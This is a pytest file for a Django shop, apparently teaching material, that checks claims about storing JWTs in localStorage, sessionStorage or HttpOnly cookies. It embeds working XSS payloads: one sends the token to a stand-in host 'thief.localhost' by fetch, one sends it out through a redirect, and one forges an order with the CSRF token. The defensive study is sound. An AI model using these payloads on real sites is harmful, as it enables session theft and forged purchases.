import pytest
from django.contrib.auth.models import Group
from rest_framework.test import APIClient

from runner import Verdict, claim, trap
from shop import factories
from shop.models import Order
from shop.people import bearer, token_of

pytestmark = [pytest.mark.django_db, pytest.mark.not_about_sql]

SHOP = "http://shop.localhost"
THIEF = "http://thief.localhost"
ANN = {"username": "ann", "password": "right"}
THEFT = """<script>
const token = localStorage.getItem("token");
theft = fetch("http://thief.localhost/49/stolen/?" + token, {mode: "no-cors"});
</script>"""
ORDER = """<script>
theft = fetch("/49/orders/", {
    method: "POST",
    headers: {
        "Content-Type": "application/json",
        "X-CSRFToken": document.cookie.replace("csrftoken=", ""),
    },
    body: '{"reference": "A-0666"}',
});
</script>"""
GOES = """<script>
location = "http://thief.localhost/49/stolen/?" + localStorage.getItem("token");
</script>"""

RESULT = "window.theft ? theft.then(() => 'sent', String) : 'the script did not run'"


def in_a_browser(test):
    """The browser asks server processes, which see what is committed."""
    test = pytest.mark.django_db(transaction=True)(test)
    return pytest.mark.browser(pytest.mark.database("sqlite")(test))


@pytest.fixture
def shop(browser, servers, passwords):
    """A tab of the browser, in which Ann signs in at a page of the shop: "token" or "cookie".
    The suppliers of P-0002 and P-0003 wrote these texts. The other hosts are served, too."""
    hosts = ["blog.shop.localhost", "shop.localhost:8001", "cdn.localhost", "thief.localhost"]

    def shop(way, *texts):
        [server] = servers(1)
        browser.serve(dict.fromkeys([SHOP, *(f"http://{host}" for host in hosts)], server))
        for text in ("Green tea.", *texts):
            factories.product.make(description=text)
        page = browser.open("http://shop.localhost/49/products/P-0001/naive/")
        browser.add_cookie(SHOP, "csrftoken", 32 * "t", sameSite="Lax")
        answer = page.fetch(f"/49/{way}/", method="POST", body=ANN) if way else None
        if way == "token":
            page.run("token => localStorage.setItem('token', token)", answer.json()["access"])
        return page

    return shop


@pytest.fixture
def stolen(browser):
    """What reached the thief: the query strings in the log of the server."""
    return lambda: [e.path.partition("?")[2] for e in browser.log if e.origin == THIEF]


@claim("localStorage is the common place and works well for most", verdict=Verdict.DEPENDS)
@in_a_browser
def test_one_script_sends_the_token_to_a_thief(browser, shop, servers, stolen, stage):
    """It works until one foreign script runs in a page. A supplier writes a script into the text of
    a product. It reads the token and sends it away. The thief then asks from anywhere, as Ann,
    until the token expires."""
    page = shop("token", THEFT)
    token = page.run("localStorage.getItem('token')")

    page.goto("http://shop.localhost/49/products/P-0002/naive/")
    assert page.run(RESULT) == "sent"
    stage.say("The thief uses it outside the browser:")
    [server] = servers(1)
    answer = server.request("GET", "/49/orders/by-header/", headers=bearer(token))

    [theft] = (exchange for exchange in browser.log if exchange.origin == THIEF)
    assert stolen() == [token]
    assert (theft.status, theft.body) == (200, '{"thanks":true}')
    assert (answer.status, answer.json()) == (200, [])


@claim(
    "localStorage is sandboxed to its domain, so no other domain gets at it", verdict=Verdict.WRONG
)
@in_a_browser
def test_the_sandbox_is_for_pages_and_not_for_scripts(shop, stage):
    """It belongs to an origin, so another port is already outside. But a script has the origin of
    the page that includes it. A widget of another company reads the token."""
    page = shop("token", '<script src="http://cdn.localhost/49/widget.js"></script>')
    kept = page.run("localStorage.getItem('token')")
    rows = []
    for origin in (SHOP, "http://shop.localhost:8001", "http://blog.shop.localhost"):
        page.goto(f"{origin}/49/products/P-0001/naive/")
        read = page.run("localStorage.getItem('token')")
        rows.append([f"a page of {origin[7:]}", "the token" if read == kept else read or "null"])
    page.goto("http://shop.localhost/49/products/P-0002/naive/")
    read = page.run("window.widget ? widget.saw : 'it did not run'")
    rows.append(["a script of cdn.localhost", "the token" if read == kept else read])
    stage.table(["who reads localStorage", "it sees"], rows)

    assert rows == [
        ["a page of shop.localhost", "the token"],
        ["a page of shop.localhost:8001", "null"],
        ["a page of blog.shop.localhost", "null"],
        ["a script of cdn.localhost", "the token"],
    ]


@claim("A cookie has at most 4 KB, which is too small for many claims")
@in_a_browser
def test_a_token_with_many_claims_is_dropped_silently(shop, ann, stage):
    """The browser drops a cookie that is longer, without an error. The login answers 200, and the
    next request is 401: the user is not signed in. So keep the claims few."""
    page = shop("")
    groups = [Group.objects.create(name=f"group-{number:03}") for number in range(300)]
    rows = []
    for count in (300, 1):
        ann.user.groups.set(groups[:count])
        login = page.fetch("/49/cookie/", method="POST", body=ANN)
        rows.append([count, login.status, page.fetch("/49/orders/").status])
    stage.table(["groups in the token", "login", "next request"], rows)

    assert rows == [[300, 200, 401], [1, 200, 200]]


@claim("sessionStorage is cleared as soon as the user closes the browser", verdict=Verdict.WRONG)
@in_a_browser
def test_session_storage_ends_with_its_tab(browser, shop):
    """It belongs to one tab and ends with it. A second tab has none, while the browser is open. And
    for a script in the page it is as readable as localStorage."""
    page = shop("token")
    page.run("sessionStorage.setItem('token', localStorage.getItem('token'))")
    second = browser.open("http://shop.localhost/49/products/P-0001/naive/")

    in_first = page.run("sessionStorage.getItem('token')")
    in_second = second.run("sessionStorage.getItem('token')")

    assert in_first == page.run("localStorage.getItem('token')")
    assert in_second is None
    assert second.run("localStorage.getItem('token')") == in_first


@claim("Tokens in cookies and in localStorage are both vulnerable to XSS", verdict=Verdict.DEPENDS)
@in_a_browser
def test_a_script_cannot_take_the_cookie_and_can_use_it(shop, stolen, ann, stage):
    """With HttpOnly the script cannot read the token, so the thief gets nothing. But it can act:
    the browser adds the cookie, the script adds the CSRF token, and an order is saved as
    Ann. SameSite=Strict does not help: the script runs in the shop's own page."""
    page = shop("cookie", THEFT, ORDER)

    page.goto("http://shop.localhost/49/products/P-0002/naive/")
    assert page.run(RESULT) == "sent"
    stage.say("The next script does not steal. It orders:")
    page.goto("http://shop.localhost/49/products/P-0003/naive/")
    assert page.run(RESULT) == "sent"

    assert stolen() == ["null"]
    assert [(str(order), order.customer) for order in Order.objects.all()] == [("A-0666", ann)]


@claim("Best practice is a cookie with HttpOnly and Secure", verdict=Verdict.DEPENDS)
@in_a_browser
def test_the_cookie_brings_back_csrf(browser, shop, ann, stage):
    """It depends on two more things. The browser adds the cookie by itself, so you need SameSite
    and the CSRF check. A form of a subdomain is same-site: Strict lets it through. The class that
    only reads the cookie saves the order."""
    shop("cookie")
    blog = browser.open("http://blog.shop.localhost/49/products/P-0001/naive/")
    rows, answers = [], []
    for path in ("/49/orders/unchecked/", "/49/orders/"):
        seen = blog.submit(f"http://shop.localhost{path}", {"reference": "A-0666"})
        answers.append(seen.json())
        rows.append([path, seen.status, Order.objects.count()])
        Order.objects.all().delete()
        blog.goto("http://blog.shop.localhost/49/products/P-0001/naive/")
    stage.table(["a form of the blog", "status", "new orders"], rows)

    assert rows == [["/49/orders/unchecked/", 201, 1], ["/49/orders/", 403, 0]]
    assert answers[0] == {"reference": "A-0666"}


@trap("A Content-Security-Policy keeps the script from running")
@in_a_browser
@pytest.mark.parametrize("way", ["token", "cookie"])
def test_a_policy_stops_the_script_of_the_supplier(way, shop, stolen, stage):
    """`default-src 'self'` runs only scripts that come as files of the shop. The script in the text
    of the product does not start: nothing reaches the thief, nothing is ordered."""
    page = shop(way, THEFT, ORDER)

    for sku in ("P-0002", "P-0003"):
        page.goto(f"http://shop.localhost/49/products/{sku}/with-policy/")
        assert page.run(RESULT) == "the script did not run"
    path = "by-header/" if way == "token" else ""
    stage.say("The shop's own script runs:")
    orders = page.run(
        "url => window.countOrders ? countOrders(url) : 'it did not run'", f"/49/orders/{path}"
    )

    assert (orders, stolen(), Order.objects.count()) == (0, [], 0)


@trap("A policy with 'unsafe-inline' lets the token out")
@in_a_browser
def test_a_policy_about_destinations_does_not_stop_a_redirect(shop, stolen, browser, stage):
    """'unsafe-inline' lets the script run. `default-src 'self'` then stops its fetch to the thief.
    But no directive of the policy stops a change of location, and the token leaves in the URL."""
    page = shop("token", THEFT, GOES)
    token = page.run("localStorage.getItem('token')")

    page.goto("http://shop.localhost/49/products/P-0002/with-leaky-policy/")
    by_fetch = page.run(RESULT)
    before = stolen()
    page.goto("http://shop.localhost/49/products/P-0003/with-leaky-policy/")

    assert (by_fetch, before) == ("TypeError: Failed to fetch", [])
    assert stolen() == [token]


@trap("The cure comes first: escape what others wrote")
def test_a_template_escapes_the_script(anonymous, stage):
    """Django's templates escape it, so it is text on the page. It runs where you go around them: a
    string put together by hand, `mark_safe`, or innerHTML in a script."""
    factories.product.make(description="<script>alert(1)</script>")

    naive = anonymous.get("/49/products/P-0001/naive/")
    escaped = anonymous.get("/49/products/P-0001/escaped/")

    assert APIClient().get("/49/products/P-0002/escaped/").status_code == 404
    assert naive.content.decode() == "<!doctype html><script>alert(1)</script>"
    assert escaped.content.decode() == "<!doctype html>&lt;script&gt;alert(1)&lt;/script&gt;"


@trap("simplejwt does not look into cookies")
def test_the_stock_class_reads_the_header_only(anonymous, passwords, ann, bob):
    """`JWTAuthentication` reads the Authorization header and nothing else. So a token in a cookie
    is 401 until you write a class that takes it from there."""
    for customer in (ann, bob):
        factories.order.make(customer=customer)

    refused = anonymous.post("/49/cookie/", ANN | {"password": "wrong"})
    login = anonymous.post("/49/cookie/", ANN)
    stock = anonymous.get("/49/orders/by-header/")
    own = anonymous.get("/49/orders/")
    header = anonymous.get("/49/orders/by-header/", headers=bearer(token_of(bob)))
    anonymous.cookies["access"] = "two parts"
    broken = anonymous.get("/49/orders/")

    answers = [answer.status_code for answer in (refused, login, stock, own, header, broken)]
    assert answers == [403, 200, 401, 200, 200, 401]
    assert login.json() == {"groups": 0}
    cookie = login.cookies["access"]
    assert (cookie["httponly"], cookie["secure"], cookie["samesite"]) == (True, True, "Strict")
    assert own.json() == [{"reference": "A-0001"}]
    assert header.json() == [{"reference": "A-0002"}]
    signed_in = APIClient(enforce_csrf_checks=True)
    signed_in.force_login(ann.user)
    assert signed_in.post("/49/cookie/", {}).status_code == 400
    assert signed_in.post("/49/cookie/", ANN).status_code == 200


@trap("A token in localStorage needs no CSRF check")
@in_a_browser
def test_a_forged_form_comes_without_the_token(browser, shop):
    """The browser adds nothing by itself, so a forged form is 401. That is the one thing that
    localStorage does better."""
    shop("token")
    blog = browser.open("http://blog.shop.localhost/49/products/P-0001/naive/")

    seen = blog.submit("http://shop.localhost/49/orders/by-header/", {"reference": "A-0666"})

    assert (seen.status, Order.objects.count()) == (401, 0)
